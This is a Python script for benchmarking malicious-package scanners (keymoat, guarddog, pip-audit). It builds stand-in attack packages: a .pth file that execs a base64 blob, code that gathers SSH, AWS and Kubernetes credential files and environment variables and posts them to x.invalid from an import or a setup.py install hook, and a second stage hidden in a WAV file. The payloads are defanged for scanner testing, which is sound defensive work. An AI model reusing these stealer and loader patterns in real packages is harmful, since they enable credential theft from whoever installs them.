#!/usr/bin/env python3
"""Shows the same artefacts to `keymoat audit`, guarddog and pip-audit.

    compare.py --keymoat BIN --guarddog BIN --pip-audit BIN --wheels DIR
               [--environment DIR] [--samples DIR] [--rounds N]

Made here: one honest wheel, and harmless stand-ins of attacks. Nothing in them
would do anything even if it were executed: what is decoded is `pass`, hosts end
in `.invalid`, and the secret files lie in no real home. WHEELS holds honest ones,
SAMPLES is tests/analyzer/sourcecode of guarddog's repository.
Every run has a network namespace without a route. Prints Markdown: what each
finds, and the median of time, processor time and memory, the tools in turn.
"""

import argparse
import base64
import hashlib
import io
import json
import os
import statistics
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from pathlib import Path

BLOB = base64.b64encode(b"pass\n" * 1200).decode()
LAUNCHER = (
    'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", '
    f"\"import base64; exec(base64.b64decode('{BLOB}'))\"])\n"
)
SUBMODULE = f'''import os
import subprocess, base64, sys

x = 1
b64 = "{BLOB}"
subprocess.run([sys.executable, "-c", f"import base64; exec(base64.b64decode('{{b64}}'))"], stdout=subprocess.DEVNULL)
'''
COLLECTOR = '''
import os
from base64 import b64encode as e

def collect():
    found = {}
    for place in ["/nowhere/.ssh/id_rsa", "/nowhere/.aws/credentials", "/nowhere/.kube/config"]:
        try:
            with open(place) as f:
                found[place] = f.read()
        except OSError:
            pass
    found["env"] = dict(os.environ)
    return e(repr(found).encode())
'''
STEALER = COLLECTOR + '''
import requests
requests.post("https://x.invalid/", data=collect())
'''
SETUP = COLLECTOR + '''
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import urllib.request
        urllib.request.urlopen("https://x.invalid", data=collect())
        install.run(self)

setup(name="thing", cmdclass={"install": Post})
'''
WAV = '''
import base64, os, subprocess, sys, tempfile, urllib.request, wave

def stage():
    place = os.path.join(tempfile.mkdtemp(), "ringtone.wav")
    urllib.request.urlretrieve("http://x.invalid/ringtone.wav", place)
    with wave.open(place, "rb") as sound:
        frames = base64.b64decode(sound.readframes(sound.getnframes()))
    key = frames[:8]
    code = bytes(b ^ key[i % len(key)] for i, b in enumerate(frames[8:]))
    subprocess.run([sys.executable, "-"], input=code)

stage()
'''
HONEST = '''
"""Talks to a service when it is asked to."""
import json
import os
import urllib.request

def ask(question, key=None):
    key = key or os.environ.get("THING_API_KEY")
    request = urllib.request.Request("https://x.invalid/ask", json.dumps(question).encode())
    request.add_header("Authorization", f"Bearer {key}")
    with urllib.request.urlopen(request) as answer:
        return json.load(answer)
'''


def wheel(folder, name, version, files, unrecorded=(), changed=None):
    info = f"{name}-{version}.dist-info"
    members = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: made-up\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rows = []
    for path, text in members.items():
        if path in unrecorded:
            continue
        text = text if path != changed else text + "# as it was built\n"
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        rows.append(f"{path},sha256={digest},{len(text.encode())}\n")
    members[f"{info}/RECORD"] = "".join(rows) + f"{info}/RECORD,,\n"
    with zipfile.ZipFile(folder / f"{name}-{version}-py3-none-any.whl", "w", zipfile.ZIP_DEFLATED) as packed:
        for path, text in members.items():
            packed.writestr(path, text)


def sdist(folder, name, version, files):
    files = {**files, "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"}
    with tarfile.open(folder / f"{name}-{version}.tar.gz", "w:gz") as packed:
        for path, text in files.items():
            member = tarfile.TarInfo(f"{name}-{version}/{path}")
            member.size = len(text.encode())
            packed.addfile(member, io.BytesIO(text.encode()))


STAND_INS = {
    "thing-1.0.0-py3-none-any.whl": "honest: a client that talks when it is called",
    "thing-1.82.7-py3-none-any.whl": "March 2026, 1.82.7: a blob executed in a submodule",
    "thing-1.82.8-py3-none-any.whl": "March 2026, 1.82.8: that, and a `.pth` file, RECORD right",
    "thing-1.82.9-py3-none-any.whl": "the `.pth` file alone, RECORD right",
    "thing-2.0.0-py3-none-any.whl": "the `.pth` file, not in RECORD",
    "thing-3.0.0-py3-none-any.whl": "a file that is not what RECORD says",
    "thing-4.0.0-py3-none-any.whl": "a stealer at import, in a submodule",
    "thing-5.0.0.tar.gz": "a stealer in `setup.py`",
    "thing-6.0.0-py3-none-any.whl": "a second stage in a WAV file",
}
LITELLM = ("1.82.6", "1.82.7", "1.82.8", "1.82.8rc1", "1.82.8.post1", "1.83.0", "1.83.7")


def stand_ins(folder):
    init = {"thing/__init__.py": '"""A thing."""\n', "thing/client.py": HONEST}
    blob = {"thing/proxy/proxy_server.py": HONEST + SUBMODULE, "thing/proxy/__init__.py": ""}
    start = {**init, "thing_init.pth": LAUNCHER}
    wheel(folder, "thing", "1.0.0", init)
    wheel(folder, "thing", "1.82.7", {**init, **blob})
    wheel(folder, "thing", "1.82.8", {**start, **blob})
    wheel(folder, "thing", "1.82.9", start)
    wheel(folder, "thing", "2.0.0", start, unrecorded=["thing_init.pth"])
    wheel(folder, "thing", "3.0.0", init, changed="thing/client.py")
    wheel(folder, "thing", "4.0.0", {**init, "thing/util/net.py": STEALER, "thing/util/__init__.py": ""})
    sdist(folder, "thing", "5.0.0", {**init, "setup.py": SETUP})
    wheel(folder, "thing", "6.0.0", {**init, "thing/_client.py": WAV})


def run(*command):
    """Output, seconds, seconds of processor, MB of the largest process."""
    started = time.monotonic()
    child = subprocess.Popen(
        ["unshare", *([] if os.geteuid() == 0 else ["--map-root-user"]), "--net", "--", *map(str, command)],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
    )
    said = child.stdout.read()
    _, _, used = os.wait4(child.pid, 0)
    return said, time.monotonic() - started, used.ru_utime + used.ru_stime, used.ru_maxrss / 1024


def keymoat(asked, path):
    said, *cost = run(asked.keymoat, "audit", "--json", "--no-cache", path)
    report = json.loads(said)
    found = [f for f in report["findings"] if f["severity"] in ("critical", "high")]
    worst = f"{found[0]['severity']}: {found[0]['kind']}" if found else report["outcome"]
    return bool(found), worst, cost


def guarddog(asked, path):
    said, *cost = run(asked.guarddog, "--log-level", "error", "pypi", "scan", path, "--output-format", "json")
    report = json.loads(said[said.index("{"):])
    risk = report["risk_score"]
    rules = sorted({r["threat_rule"] for r in report["risks"]})
    return risk["label"] in ("suspicious", "high_risk"), f"{risk['label']} ({risk['score']}): {', '.join(rules) or '-'}", cost


def samples(asked, tools):
    """guarddog's own samples of bad code in Python, and its honest ones: how many are called bad."""
    row("guarddog's samples", *tools)
    row("---", *("---" for _ in tools))
    for what, pattern in (("bad", "*.py"), ("honest", "benign/*.py")):
        found = {tool: [] for tool in tools}
        files = [file for file in sorted(asked.samples.glob(pattern)) if not file.stem.startswith(("test_", "__"))]
        for file in files:
            with tempfile.TemporaryDirectory() as name:
                if "setup" in file.stem:
                    sdist(Path(name), "sample", "1.0", {"setup.py": file.read_text()})
                else:
                    inside = {"sample/__init__.py": "", "sample/code.py": file.read_text()}
                    wheel(Path(name), "sample", "1.0", inside)
                (made,) = Path(name).iterdir()
                for tool, scan in tools.items():
                    if scan(asked, made)[0]:
                        found[tool].append(file.stem)
        row(f"{what}: {len(files)}", *(f"{len(f)}: {', '.join(f) or '-'}" for f in found.values()))


def row(*cells):
    print("|", " | ".join(str(cell).replace("|", "/") for cell in cells), "|", flush=True)


def medians(costs):
    return [f"{statistics.median(column):.2f}" for column in zip(*costs)]


def main():
    ask = argparse.ArgumentParser()
    for name in ("keymoat", "guarddog", "pip-audit", "wheels"):
        ask.add_argument(f"--{name}", type=lambda text: Path(text).absolute(), required=True)
    ask.add_argument("--environment", type=Path)
    ask.add_argument("--samples", type=Path)
    ask.add_argument("--rounds", type=int, default=3)
    asked = ask.parse_args()
    tools = {"keymoat": keymoat, "guarddog": guarddog}

    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        stand_ins(folder)
        costs = {tool: [] for tool in tools}
        row("stand-in", *tools)
        row("---", *("---" for _ in tools))
        for number in range(asked.rounds):
            for file, what in STAND_INS.items():
                said = []
                for tool, scan in tools.items():
                    _, worst, cost = scan(asked, folder / file)
                    costs[tool].append(cost)
                    said.append(worst)
                if number == 0:
                    row(what, *said)
        print()
        row("for one of them", "s", "s of processor", "MB")
        row("---", "---", "---", "---")
        for tool in tools:
            row(tool, *medians(costs[tool]))

        print()
        row("litellm in a requirement file", "keymoat")
        row("---", "---")
        for version in LITELLM:
            file = folder / "requirements.txt"
            file.write_text(f"litellm=={version}\n")
            report = json.loads(run(asked.keymoat, "audit", "--json", "--no-cache", file)[0])
            row(version, ", ".join(sorted({f["kind"] for f in report["findings"]} & {"malicious", "vulnerable"})) or "-")

    print()
    wheels = sorted(asked.wheels.iterdir())
    alarms = {tool: [] for tool in tools}
    costs = {tool: [] for tool in tools}
    for file in wheels:
        for tool, scan in tools.items():
            loud, worst, cost = scan(asked, file)
            costs[tool].append(cost)
            if loud:
                alarms[tool].append(f"{file.name.split('-')[0]}: {worst}")
    row(f"{len(wheels)} honest wheels", "alarms", "s", "s of processor", "MB at most")
    row("---", "---", "---", "---", "---")
    for tool in tools:
        seconds, processor, memory = zip(*costs[tool])
        row(tool, len(alarms[tool]), f"{sum(seconds):.1f}", f"{sum(processor):.1f}", f"{max(memory):.0f}")
    for tool in tools:
        print(f"\n{tool}:", *(alarms[tool] or ["none"]), sep="\n- ")

    if asked.samples:
        print()
        samples(asked, tools)

    if asked.environment:
        sites = sorted(asked.environment.glob("lib/python3*/site-packages"))
        print()
        costs = {"keymoat": [], "pip-audit": []}
        for _ in range(asked.rounds):
            costs["keymoat"].append(keymoat(asked, asked.environment)[2])
            costs["pip-audit"].append(run(getattr(asked, "pip_audit"), "--dry-run", "--path", sites[0])[1:])
        row("the environment", "s", "s of processor", "MB")
        row("---", "---", "---", "---")
        row("keymoat audit --no-cache", *medians(costs["keymoat"]))
        row("pip-audit --dry-run (lists only)", *medians(costs["pip-audit"]))


if __name__ == "__main__":
    sys.exit(main())
